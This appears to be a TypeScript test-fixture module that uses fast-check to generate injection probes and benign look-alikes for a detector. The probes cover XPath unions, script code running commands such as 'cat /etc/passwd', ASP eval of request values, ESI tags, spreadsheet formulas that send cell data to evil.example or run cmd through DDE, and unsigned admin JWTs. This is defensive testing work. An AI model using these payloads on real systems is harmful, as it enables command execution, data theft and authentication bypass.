// Probes that tools other than the corpus's send for injection classes the corpus barely holds, each
// built from its grammar's parts, and the benign text next to each: XPath injection (axis steps,
// unions after a closed predicate; benign: code with `::`, IPv6, prose about XPath, tables); script
// code in Perl, Python, Ruby, PHP and classic ASP that prints a computation or runs a command (benign:
// prose that prints, echoes, evaluates requests, names os.system); edge-side includes. Each generator
// draws its parts from a seed (rng.ts).
import fc from "fast-check";
import { rng, type R } from "./rng.js";

const pick = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const q = (r: R) => pick(r, ["'", '"']);
const name = (r: R) => pick(r, ["user", "users", "account", "password", "pass", "login", "secret", "item", "node", "u" + r(99)]);
const AXES = ["child", "descendant", "descendant-or-self", "ancestor", "ancestor-or-self", "parent", "self", "following", "following-sibling", "preceding", "preceding-sibling", "attribute"];
const nodeTest = (r: R) => pick(r, ["node()", "text()", "*", name(r), "NODE()", "text( )"]);
const blank = (r: R) => pick(r, ["", " ", "  "]);

/** An XPath step on an axis after a `/`, or any name and `::` before `node()`/`text()`, inside a call or a comparison. */
export const xpathAxis: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const axis = pick(r, AXES);
  const step = `/${axis}::${nodeTest(r)}`;
  const path = pick(r, ["", "/*[1]", "/" + name(r), "/*"]) + step;
  const fn = pick(r, ["count", "string-length", "name", "local-name", "boolean", "string"]);
  switch (r(4)) {
    case 0: return `${fn}(${path})`;
    case 1: return `${fn}(${path})=${r(9)}`;
    case 2: return path;
    default: return `${r(99)} and ${fn}(${path})>${r(9)}`;
  }
});

/** A literal and predicate closed, then a union with any node: `'] | //* | /a['`. */
export const xpathUnion: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const quote = q(r);
  const closers = pick(r, ["]", ")]", "))]", ")", "]]"]);
  const any = pick(r, ["//*", "//" + name(r), "/*", "*", "//" + name(r) + "/*", "//*[1]", "//@*"]);
  const reopen = pick(r, ["", ` | /a[${quote}`, ` | //x[(${quote}`, `[${quote}`, ` | ${quote}`]);
  return `${pick(r, ["", "x", "admin", "1"])}${quote}${closers}${blank(r)}|${blank(r)}${any}${reopen}`;
});

/** Code with `::`, addresses, tables, pipes and prose that names XPath's functions and axes. */
export const xpathBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  switch (r(10)) {
    case 0: return pick(r, ["use super::*;", "use crate::config::*;", "std::vector<int> v(" + r(9) + ");", "Foo::bar() is static", "Admin::UsersController#index"]);
    case 1: return `fe80::${r(99)} and ::ffff:10.0.0.${r(255)}`;
    case 2: return `The ${pick(r, ["text()", "node()", "count()", "name()"])} function of XPath returns ${pick(r, ["the text node", "a number", "a string"])}`;
    case 3: return `the ${pick(r, AXES)} axis selects nodes, see chapter ${r(9)}`;
    case 4: return `| ${pick(r, ["Name", "Email", "Total"])} | /docs/${r(9)} | ${r(99)} |`;
    case 5: return `["a", "b${r(9)}"] | /regex/ | keys`;
    case 6: return `In XPath, //book/title selects every title (${r(99)} books)`;
    case 7: return `see https://example.com/docs/xpath/${pick(r, ["text()", "node()"])} for details`;
    case 8: return `A | B | ${pick(r, ["C", "D"])}`;
    default: return `C++: ${pick(r, ["std", "boost", "ns"])}::${pick(r, ["string", "optional<int>", "map"])} x; // ${r(99)}`;
  }
});

// --- script code ----------------------------------------------------------------------------------

const num = (r: R) => String(pick(r, [1337, 13, 37, 9, 7, 31337, 1000 + r(9000)]));
/** What precedes an injected statement: nothing, a separator, a closed string joined on. */
const opener = (r: R) => pick(r, ["", ";", "';", '";', "1;", "x);", "'+", '"+', "'.", '".', "{", "%>", "';\n"]);
const closer = (r: R) => pick(r, ["", ";", ";'", ';"', "+'", '+"', "#", ";#", ";//", ";}"]);

/** An output statement at a statement start whose argument computes or runs a command. */
export const computeProbe: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const kw = pick(r, ["print", "echo", "die", "warn", "puts", "say", "printf", "PRINT", "Response.Write", "response.write"]);
  const expr = r(5) ? `${num(r)}${blank(r)}*${blank(r)}${num(r)}` : "`" + pick(r, ["id", "whoami", "uname -a", "cat /etc/passwd"]) + "`";
  const call = kw.toLowerCase() === "response.write" || r(2) ? `${kw}(${expr})` : `${kw} ${expr}`;
  return `${opener(r)}${call}${closer(r)}`;
});

/** ASP's eval/execute of a request value, Response.Write of a string; Python's module calls; Perl's qx and Ruby's %x. */
export const scriptExec: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const cmd = pick(r, ["id", "whoami", "uname -a", "ls -la", "cat /etc/passwd", "sleep 5"]);
  const s = q(r);
  switch (r(5)) {
    case 0: return `${opener(r)}${pick(r, ["eval", "Eval", "execute", "Execute"])} ${pick(r, ["request", "Request"])}${pick(r, ['("cmd")', "(\"x\")", '.Form("c")', '.QueryString("q")', '["a"]'])}${closer(r)}`;
    case 1: return `${opener(r)}${pick(r, ["Response.Write", "response.write", "Response.Redirect", "Server.CreateObject", "CreateObject", "WScript.CreateObject", "Server.Execute"])}(${s}${pick(r, ["hello", "<b>x</b>", "WScript.Shell", "Scripting.FileSystemObject", "http://evil.example/"])}${s})${pick(r, ["", ".Run(\"calc\")", closer(r)])}`;
    case 2: return `${opener(r)}${pick(r, ["__import__", "os.system", "os.popen", "subprocess.check_output", "subprocess.call", "subprocess.Popen", "subprocess.run"])}(${r(2) ? s + (r(2) ? "os" : cmd) + s : `[${s}${cmd.split(" ")[0]}${s}]`})${pick(r, ["", ".read()", ".system('id')", closer(r)])}`;
    case 3: return `${opener(r)}qx${pick(r, ["(", "{", "[", "|", "!"])}${cmd}${pick(r, [")", "}", "]", "|", "!"])}${closer(r)}`;
    default: return `${opener(r)}%x${pick(r, ["(", "{", "[", "|", "!"])}${cmd}${pick(r, [")", "}", "]", "|", "!"])}${closer(r)}`;
  }
});

/** Prose that prints, echoes, evaluates requests and names Python's calls; printf formats. */
export const scriptBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const n = r(9) + 2;
  switch (r(10)) {
    case 0: return `Please print ${n}*${n + 1} copies of the report`;
    case 1: return r(2) ? `${pick(r, ["say", "warn", "print", "echo"])} ${n}*${n} ${pick(r, ["times", "people", "pages"])}` : `${pick(r, ["Step 2. Print", "Done. Echo"])} ${n}*${n}.`;
    case 2: return `Type print(${n}*${n}) in the REPL to see ${n * n}`;
    case 3: return `${pick(r, ["Eval", "Execute"])} request ${pick(r, ["from the team", "approved", "no. " + r(999)])}: please review`;
    case 4: return pick(r, ["The Response.Write method sends output; use Response.Write() in classic ASP", "Call CreateObject() once per page", "the server.createobject docs, chapter " + n, "Response.Redirect() vs Server.Transfer()"]);
    case 5: return `Call os.system() only with trusted input; the subprocess.run docs say check=True`;
    case 6: return `__import__ is a builtin, see chapter ${n}`;
    case 7: return `Hex with %x (lowercase) or %X, ${n}% x ${n}`;
    case 8: return `The qx${r(900) + 100} series ships in May (${n} units)`;
    default: return `We print ${n}*${n + 2} handouts for the meeting`;
  }
});

/** An edge-side include tag, as a cache in front assembles pages from. */
export const esiTag: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const tag = pick(r, ["esi:include", "ESI:include", "esi:vars", "esi:debug", "esi:assign", "esi:inline", "esi:eval", "esi:choose", "esi:comment"]);
  const attrs = pick(r, [` src="http://${pick(r, ["evil", "oast", "x" + r(99)])}.example/"`, ` src=/secret`, "", ` name="x" value="y"`, ` text="${r(9)}"`]);
  return `${pick(r, ["", "x", "<p>", "hello "])}<${tag}${attrs}${pick(r, ["/>", ">", " />"])}${pick(r, ["", "$(HTTP_COOKIE)</" + tag + ">"])}`;
});

// --- spreadsheet formulas ---------------------------------------------------------------------

/** A value a spreadsheet runs once exported: a DDE link, or a call that fetches, links or runs. */
export const formulaInjection: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const lead = pick(r, ["", " ", '"', "'", "\t"]) + pick(r, ["=", "+", "-", "@", "=+", "-2+3+", "@SUM(1+1)*"]);
  const url = `http://${pick(r, ["evil", "oast", "x" + r(99)])}.example/?${pick(r, ["v", "d", "leak"])}=`;
  const prog = pick(r, ["cmd", "MSEXCEL", "powershell", "msexcel", "CMD"]);
  const cmdline = pick(r, [" /C calc", " /c notepad", "\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe", " -w hidden -c iex(x)"]);
  switch (r(3)) {
    case 0: return `${lead}${prog}|'${cmdline}'!${pick(r, ["A0", "A1", "''", "B" + r(99)])}`;
    case 1: return `${lead}${pick(r, ["HYPERLINK", "hyperlink", "WEBSERVICE", "IMPORTXML", "IMPORTDATA", "IMPORTHTML", "IMAGE", "ImportFeed"])}(${pick(r, ['"' + url + '"&A1', 'CONCAT("' + url + '",A1)', '"' + url + '"'])}${pick(r, ["", ',"Click"', ',"//a"'])})`;
    default: return `${lead}DDE("cmd";"/C calc";"!A0")`;
  }
});

/** Phone numbers, mentions, negative numbers, rules, sums and prose about hyperlinks. */
export const formulaBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  switch (r(8)) {
    case 0: return `+${r(99) + 1} ${100 + r(899)} ${1000 + r(8999)}`;
    case 1: return `@${pick(r, ["ann", "bob", "channel", "team"])} ${pick(r, ["thanks!", "see the hyperlink(s) above", "call me"])}`;
    case 2: return `-${r(999)}`;
    case 3: return `=== ${pick(r, ["Section", "Notes", "Summary"])} ===`;
    case 4: return `=SUM(A1:A${r(99) + 2})`;
    case 5: return `=A${r(9) + 1}+B${r(9) + 1}`;
    case 6: return `- item one | item two ${r(9)}`;
    default: return `=AVERAGE(B${r(9) + 1}:B${r(9) + 10})`;
  }
});

// --- unsigned JSON Web Tokens -------------------------------------------------------------------

const b64url = (o: unknown) => Buffer.from(JSON.stringify(o)).toString("base64url");

/** A token forged without a key: its header says alg none (any case, any field order), its signature empty or junk. */
export const jwtNone: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const alg = pick(r, ["none", "None", "NONE", "nOnE"]);
  const header = r(2) ? { alg, typ: "JWT" } : r(2) ? { typ: "JWT", alg } : { alg };
  const claims = { sub: pick(r, ["admin", "root", "u" + r(999)]), role: pick(r, ["admin", "user"]), iat: 1700000000 + r(99999) };
  return `${pick(r, ["", "Bearer "])}${b64url(header)}.${b64url(claims)}${pick(r, ["", ".", ".AAAA"])}`;
});

/** Signed tokens, and words and base64 text with `ey` in them. */
export const jwtBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const sig = Buffer.from(String(r(1e9)).repeat(4)).toString("base64url");
  switch (r(4)) {
    case 0: return `${b64url({ alg: pick(r, ["HS256", "RS256", "ES256"]), typ: "JWT" })}.${b64url({ sub: "u" + r(999), note: "none" })}.${sig}`;
    case 1: return `they. key. survey. money. eye.${r(99)}`;
    case 2: return `${b64url({ status: "none", count: r(99) })}.${r(9)}`;
    default: return `Bearer ${b64url({ alg: "HS256" })}.${b64url({ sub: "none" })}.${sig}`;
  }
});
